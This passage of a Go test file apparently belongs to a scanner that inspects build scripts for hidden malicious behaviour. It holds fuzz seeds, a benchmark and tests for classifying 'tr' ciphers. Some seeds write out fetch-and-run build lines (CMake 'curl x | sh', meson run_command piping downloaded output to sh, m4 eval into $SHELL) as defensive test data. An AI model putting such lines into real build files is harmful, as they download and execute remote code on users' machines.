			f.Add(filepath.Base(p), data)
		}
	}
	f.Add("m4/x.m4", []byte("AC_CONFIG_COMMANDS([a], [eval $x | $SHELL], [x=\"eval \\$y\"])"))
	f.Add("CMakeLists.txt", []byte("execute_process(COMMAND sh -c \"curl x | sh\")\nfile(DOWNLOAD u ${F})\ninclude(${F})\n"))
	f.Add("meson.build", []byte("r = run_command('curl', 'u')\nrun_command('sh', '-c', r.stdout())\n"))
	f.Fuzz(func(t *testing.T, path string, data []byte) {
		a, err := Analyze(context.Background(), path, data)
		if err != nil {
			t.Fatalf("Analyze(%q): %v", path, err)
		}
		checkInvariants(t, a, data)
		if a.Path != path {
			t.Fatalf("path %q, want %q", a.Path, path)
		}
	})
}

// BenchmarkAnalyzeConfigure analyses a configure script of about 1 MiB:
// the file named by $VOUCH_BENCH_CONFIGURE, or one generated by autoreconf
// (repeated up to 1 MiB). It skips when neither is available.
func BenchmarkAnalyzeConfigure(b *testing.B) {
	var data []byte
	if p := os.Getenv("VOUCH_BENCH_CONFIGURE"); p != "" {
		var err error
		if data, err = os.ReadFile(p); err != nil {
			b.Fatal(err)
		}
	} else {
		dir := autotoolsProject(b)
		one, err := os.ReadFile(filepath.Join(dir, "configure"))
		if err != nil {
			b.Fatal(err)
		}
		for len(data) < 1<<20 {
			data = append(data, one...)
		}
	}
	b.SetBytes(int64(len(data)))
	b.ReportAllocs()
	for b.Loop() {
		if _, err := Analyze(context.Background(), "configure", data); err != nil {
			b.Fatal(err)
		}
	}
}

func TestExpandTrSet(t *testing.T) {
	tests := []struct {
		set  string
		fill int
		want string
		ok   bool
	}{
		{"a-e", 0, "abcde", true},
		{`\t \-_`, 0, "\t -_", true},
		{"[:digit:]", 0, "0123456789", true},
		{"[a*3]", 0, "aaa", true},
		{"[x*]", 4, "xxxx", true},
		{"ab[x*]", 5, "abxxx", true},
		{`\101\60`, 0, "A0", true},
		{`\0-\3`, 0, "\x00\x01\x02\x03", true},
		{`\400`, 0, " 0", true},
		{"[=a=]", 0, "a", true},
		{`x\`, 0, `x\`, true},
		{"z-a", 0, "", false},
		{"[:bogus:]", 0, "", false},
	}
	for _, tt := range tests {
		got, ok := expandTrSet(tt.set, tt.fill)
		if ok != tt.ok || ok && string(got) != tt.want {
			t.Errorf("expandTrSet(%q, %d) = %q, %v; want %q, %v", tt.set, tt.fill, got, ok, tt.want, tt.ok)
		}
	}
}

func TestClassifyTr(t *testing.T) {
	tests := []struct {
		set1, set2 string
		want       trKind
	}{
		{`\t \-_`, ` \t_\-`, trSwap},
		{`\114-\321\322-\377\35-\47\14-\34\0-\13\50-\113`, `\0-\377`, trCipher},
		{`\5-\51\204-\377\52-\115\132-\203\0-\4\116-\131`, `\0-\377`, trCipher},
		{"A-Za-z", "N-ZA-Mn-za-m", trTextCipher},
		{"a-z", "A-Z", trPlain},
		{"[:upper:]", "[:lower:]", trPlain},
		{"a-zA-Z", "A-Za-z", trPlain},
		{`\040`, `\012`, trPlain},
		{`\015\012`, `\040\040`, trPlain},
		{`\200-\377`, "?", trPlain},
		{"/\\\\", "\\\\/", trPlain},
		{"abc", "abc", trPlain},
	}
	for _, tt := range tests {
		if got, _ := classifyTr(tt.set1, tt.set2, false); got != tt.want {
			t.Errorf("classifyTr(%q, %q) = %v, want %v", tt.set1, tt.set2, got, tt.want)
		}
	}
}
